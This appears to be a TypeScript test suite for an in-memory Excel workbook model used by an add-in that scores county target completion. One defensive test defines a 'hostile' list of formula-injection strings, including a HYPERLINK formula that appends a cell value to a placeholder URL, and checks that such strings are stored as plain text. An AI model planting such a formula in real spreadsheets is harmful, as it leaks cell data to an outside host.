/**
 * The in-memory workbook the preview and the component tests run on: its formulas (the subset we write),
 * spills, marks kept apart from the cells, and our-sheet naming rules, so it behaves as office.ts does.
 */
import { a1 } from "../../src/core/address";
import { rankByTotalFormula, ranksByTotal } from "../../src/core/select";
import { markFormula } from "../../src/excel/cells";
import { enterInput } from "../../src/excel/memory/formula";
import { MemoryWorkbook } from "../../src/excel/memory/memory";
import { formula as f, freeSheetName, OpError } from "../../src/excel/ops";
import { zgFunctions } from "../../src/excel/memory/zgFunctions";

function book() {
  const b = new MemoryWorkbook({ functions: zgFunctions() });
  b.addSheet({
    name: "完成 情况",
    cells: [
      ["市", "县", "目标", "完成"],
      ["杭州市", "甲", "100台", "120台"],
      ["杭州市", "乙", "100台", "90台"],
      ["宁波市", "丙", "10%", "12%"],
    ],
  });
  return b;
}

test("formulas: quoted sheet names, arithmetic, &, SUMIFS/COUNTIFS criteria, IF, IFERROR", async () => {
  const b = book();
  await b.writeSheet({
    name: "ZG评分结果",
    kind: "score",
    cells: [
      [f("='完成 情况'!A2&\"|\"&'完成 情况'!B2"), f("=1+2*3-4/2"), f('=COUNTIFS(\'完成 情况\'!$A$2:$A$4,"杭州市")'), f('=SUMIFS(D2:D3,E2:E3,">1")'), 5],
      [f('=IF(B1>4,"大","小")'), f('=IFERROR(1/0,"除零")'), f('=COUNTIF(\'完成 情况\'!A2:A4,"<>杭州市")'), 7, 2],
      [f("=NOSUCH(1)"), null, null, 9, 0.5],
    ],
  });
  expect(b.valueAt("ZG评分结果", "A1")).toBe("杭州市|甲");
  expect(b.valueAt("ZG评分结果", "B1")).toBe(5);
  expect(b.valueAt("ZG评分结果", "C1")).toBe(2);
  expect(b.valueAt("ZG评分结果", "D1")).toBe(7);
  expect(b.valueAt("ZG评分结果", "A2")).toBe("大");
  expect(b.valueAt("ZG评分结果", "B2")).toBe("除零");
  expect(b.valueAt("ZG评分结果", "C2")).toBe(1);
  expect(b.valueAt("ZG评分结果", "A3")).toEqual({ error: "#NAME?" });
  // A formula Excel cannot read is refused: the write fails, naming the cell, and leaves no sheet behind.
  await expect(b.writeSheet({ name: "坏公式", kind: "score", cells: [[1, f("=A1&")]] })).rejects.toMatchObject({ sheet: "坏公式", cell: "B1" });
  expect(b.sheet("坏公式")).toBeUndefined();
  // A formula over its own cell is circular, not a hang.
  b.setCell("ZG评分结果", "E3", "=SUM(E1:E3)");
  expect(b.valueAt("ZG评分结果", "E3")).toEqual({ error: "#CIRC!" });
});

test("ZG functions run element-wise and spill down; an edit recalculates", async () => {
  const b = book();
  await b.writeSheet({
    name: "结果",
    kind: "score",
    cells: [[f("=IFERROR(ZG.COMPLETION('完成 情况'!D2:D4,'完成 情况'!C2:C4),\"\")"), f("=ZG.RANKSCOREBY(A1:A3,A1:A3,C1:C3,C1:C3,0,10,0.5,0)"), "杭州市"], [null, null, "杭州市"], [null, null, "宁波市"]],
  });
  expect(b.valueAt("结果", "A1")).toBeCloseTo(1.2, 12);
  expect(b.valueAt("结果", "A2")).toBeCloseTo(0.9, 12);
  expect(b.valueAt("结果", "A3")).toBeCloseTo(1.2, 12);
  expect([b.valueAt("结果", "B1"), b.valueAt("结果", "B2"), b.valueAt("结果", "B3")]).toEqual([10, 9.5, 10]);
  expect(b.valueAt("结果", "A4")).toBeNull();
  b.setCell("完成 情况", "D3", "130台");
  expect([b.valueAt("结果", "B1"), b.valueAt("结果", "B2")]).toEqual([9.5, 10]);
  // An unreadable actual: the function's own error, caught by IFERROR into no measure (0 points).
  b.setCell("完成 情况", "D2", "待定");
  expect(b.valueAt("结果", "A1")).toBe("");
  expect(b.valueAt("结果", "B1")).toBe(0);
});

test("selection: one cell reads the used region; marks never touch cells or fills", async () => {
  const b = book();
  b.addSheet({ name: "偏移", cells: [[null, null], [null, "x", 1]], fills: { B2: "#FFFF00" } });
  b.select("偏移", "B2");
  const s = await b.getSelectionSheet();
  expect(s.origin).toEqual({ row: 1, col: 1 });
  expect(s.cells).toEqual([["x", 1]]);
  await b.markCells([{ sheet: "偏移", addresses: ["B2:C2"], kind: "short" }]);
  expect(b.marksOf("偏移").size).toBe(2);
  expect(await b.clearMarks()).toBe(1);
  expect(b.sheet("偏移")!.fills.get("1,1")).toBe("#FFFF00");
  expect(b.sheet("偏移")!.cells[1]).toEqual([null, "x", 1]);
});

test("free sheet names: suffixes, case-insensitive, at most 31 characters, no forbidden characters", () => {
  expect(freeSheetName("ZG校核报告", ["zg校核报告"])).toBe("ZG校核报告 (2)");
  expect(freeSheetName("ZG校核报告", ["ZG校核报告", "ZG校核报告 (2)"])).toBe("ZG校核报告 (3)");
  expect(freeSheetName("a".repeat(40), ["a".repeat(31)])).toBe(`${"a".repeat(27)} (2)`);
  expect(freeSheetName("a/b:c", [])).toBe("a_b_c");
});

describe("the contracts office.ts relies on, modelled", () => {
  // Excel API reference, Range.values: "If the returned value starts with a plus ("+"), minus ("-"), or equal
  // sign ("="), Excel interprets this value as a formula." NumberFormatCategory, text: "Text format cells are
  // treated as text even when a number is in the cell. The cell is displayed exactly as entered."
  const hostile = ["-临平区", "+1", "@x", '=HYPERLINK("http://x"&B5)', "=1+1", "Sheet1!A1", "=分解!C3", "001", "10%"];

  test("a written string is taken as Excel takes it; the Text format keeps it as entered", () => {
    expect(() => enterInput("-临平区", "General")).toThrow();
    expect(() => enterInput("@x", "General")).toThrow();
    expect(enterInput('=HYPERLINK("http://x"&B5)', "General")).toEqual({ formula: '=HYPERLINK("http://x"&B5)' });
    expect(enterInput("=1+1", "General")).toEqual({ formula: "=1+1" });
    expect(enterInput("+1", "General")).toEqual({ value: 1 });
    expect(enterInput("10%", "General")).toEqual({ value: 0.1 });
    for (const v of hostile) expect(enterInput(v, "@")).toEqual({ value: v });
  });

  test("strings written to our sheets land as the same text; only formula() cells are formulas", async () => {
    const b = book();
    const w = await b.writeSheet({ name: "ZG校核报告", kind: "report", cells: [hostile, hostile.map(() => f("=1+1"))] });
    hostile.forEach((v, c) => {
      expect([v, b.valueAt(w.sheet, a1(0, c)), b.isFormula(w.sheet, a1(0, c))]).toEqual([v, v, false]);
      expect(b.valueAt(w.sheet, a1(1, c))).toBe(2);
    });
    // Read back, as the pane would read any sheet, they are still that text.
    const read = await b.readSheet(w.sheet);
    expect(read.cells[0]).toEqual(hostile);
  });

  // ConditionalFormat.id: "The priority of the conditional format in the current ConditionalFormatCollection";
  // ConditionalFormatCollection.add: "Adds a new conditional format to the collection at the first/top priority."
  test("conditional formats in priority order: ids shift as formats are added; clearMarks removes exactly ours", async () => {
    const b = book();
    b.addSheet({ name: "二", cells: [["x", 1]] });
    b.addConditionalFormat("完成 情况", { type: "Custom", address: "C2", formula: '=ISNUMBER(SEARCH("ZG.mark",C2))', fill: "#00FF00" });
    b.addConditionalFormat("完成 情况", { type: "DataBar", address: "D2:D4" });
    await b.markCells([
      { sheet: "完成 情况", addresses: ["C3", "D3"], kind: "short" },
      { sheet: "完成 情况", addresses: ["A2"], kind: "error" },
    ]);
    await b.markCells([{ sheet: "二", addresses: ["B1"], kind: "warning" }]);
    const s = b.sheet("完成 情况")!;
    const ourId = () => String(s.conditionalFormats.findIndex((cf) => cf.formula === markFormula("short")));
    const before = ourId();
    b.addConditionalFormat("完成 情况", { type: "CellValue", address: "C4", fill: "#0000FF" });
    b.addConditionalFormat("完成 情况", { type: "Custom", address: "B2", formula: '=N("ZG.mark:short")=1' });
    expect(Number(ourId())).toBe(Number(before) + 2);
    expect([...b.marksOf("完成 情况").entries()].sort()).toEqual([
      ["1,0", "error"],
      ["2,2", "short"],
      ["2,3", "short"],
    ]);
    const theirs = s.conditionalFormats.filter((cf) => !cf.formula?.startsWith('=N("ZG.mark:short")=0') && !cf.formula?.startsWith('=N("ZG.mark:error")=0'));
    expect(await b.clearMarks()).toBe(3);
    expect(s.conditionalFormats).toEqual(theirs);
    expect(s.conditionalFormats.map((cf) => cf.type)).toEqual(["Custom", "CellValue", "DataBar", "Custom"]);
    expect(b.sheet("二")!.conditionalFormats).toEqual([]);
    expect(await b.clearMarks()).toBe(0);
  });

  test("several selected ranges: the area of the active cell is read, with a notice", async () => {
    const b = book();
    b.select("完成 情况", "A1:B2,C3:D4", "C3");
    const s = await b.getSelectionSheet();
    expect(s.origin).toEqual({ row: 2, col: 2 });
    expect(s.cells).toEqual([
      ["100台", "90台"],
      ["10%", "12%"],
    ]);
    expect(s.notices).toEqual([expect.objectContaining({ code: "several-ranges", sheet: "完成 情况", cell: "C3:D4" })]);
  });

  test("a stray cell at XFD1048576: the table is read, the far cell named, at once", async () => {
    const b = book();
    b.setCell("完成 情况", "XFD1048576", "备注");
    b.select("完成 情况", "B2");
    const started = Date.now();
    const s = await b.getSelectionSheet();
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(s.origin).toEqual({ row: 0, col: 0 });
    expect(s.cells).toHaveLength(4);
    expect(s.notices).toEqual([expect.objectContaining({ code: "far-cells", sheet: "完成 情况", cell: "XFD1048576" })]);
    expect((await b.readSheet("完成 情况")).notices?.[0].cell).toBe("XFD1048576");
  });

  test("more than 512 merged areas are all read", async () => {
    const b = new MemoryWorkbook();
    const cells = Array.from({ length: 701 }, (_, r) => [r === 0 ? "县" : `县${r}`, null]);
    b.addSheet({ name: "合并", cells, merges: Array.from({ length: 700 }, (_, i) => ({ top: i + 1, left: 0, bottom: i + 1, right: 1 })) });
    expect((await b.readSheet("合并")).merges).toHaveLength(700);
  });

  test("a replacement that fails part-way keeps the old sheet; a first write that fails leaves none", async () => {
    const b = book();
    const content = { name: "ZG评分结果", kind: "score" as const, cells: [["一"], ["二"], ["三"]] };
    await b.writeSheet(content);
    b.injectWriteFailure(1);
    const e = await b.writeSheet({ ...content, cells: [["新"], ["新"], ["新"]] }, { confirmReplace: async () => true }).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(OpError);
    expect((e as OpError).msg.zh).toContain("原来的“ZG评分结果”保持不变");
    expect(b.sheets.map((s) => s.name)).toEqual(["完成 情况", "ZG评分结果"]);
    expect(b.sheet("ZG评分结果")!.cells).toEqual([["一"], ["二"], ["三"]]);
    b.injectWriteFailure(0);
    await expect(b.writeSheet({ ...content, name: "ZG校核报告" })).rejects.toBeInstanceOf(OpError);
    b.injectWriteFailure(2);
    await expect(b.insertTemplates([content, { ...content, name: "模板" }])).rejects.toBeInstanceOf(OpError);
    expect(b.sheets.map((s) => s.name)).toEqual(["完成 情况", "ZG评分结果"]);
    // Without a failure the replacement goes through, under the same name.
    await expect(b.writeSheet({ ...content, cells: [["新"]] }, { confirmReplace: async () => true })).resolves.toEqual({ sheet: "ZG评分结果", replaced: true });
    expect(b.sheet("ZG评分结果")!.cells).toEqual([["新"]]);
  });
});

test("rankByTotalFormula: totals that differ only in their last binary digits tie, as the engine's ranks do", async () => {
  const b = new MemoryWorkbook({ functions: zgFunctions() });
  // 0.1 + 0.2 is 0.30000000000000004: the same score as 0.3, which plain ">"&H2 would rank apart.
  const totals = [74.45, 74.45 + 1e-13, 80, 74.44, 0.1 + 0.2, 0.3];
  const cities = ["杭州市", "杭州市", "杭州市", "杭州市", "宁波市", "宁波市"];
  await b.writeSheet({
    name: "排名",
    kind: "score",
    cells: totals.map((t, i) => [cities[i], t, f(`=${rankByTotalFormula("$B$1:$B$6", `B${i + 1}`, { range: "$A$1:$A$6", cell: `A${i + 1}` })}`), f(`=${rankByTotalFormula("$B$1:$B$6", `B${i + 1}`)}`)]),
  });
  const col = (c: string) => totals.map((_, i) => b.valueAt("排名", `${c}${i + 1}`));
  expect(col("C")).toEqual([2, 2, 1, 4, 1, 1]);
  expect(col("D")).toEqual([2, 2, 1, 4, 5, 5]);
  // The same ranks as the engine gives these totals.
  expect(ranksByTotal(totals.map((total, i) => ({ county: String(i), total, targetScore: 0, overScore: 0, policyScore: 0 })))).toEqual([2, 2, 1, 4, 5, 5]);
});
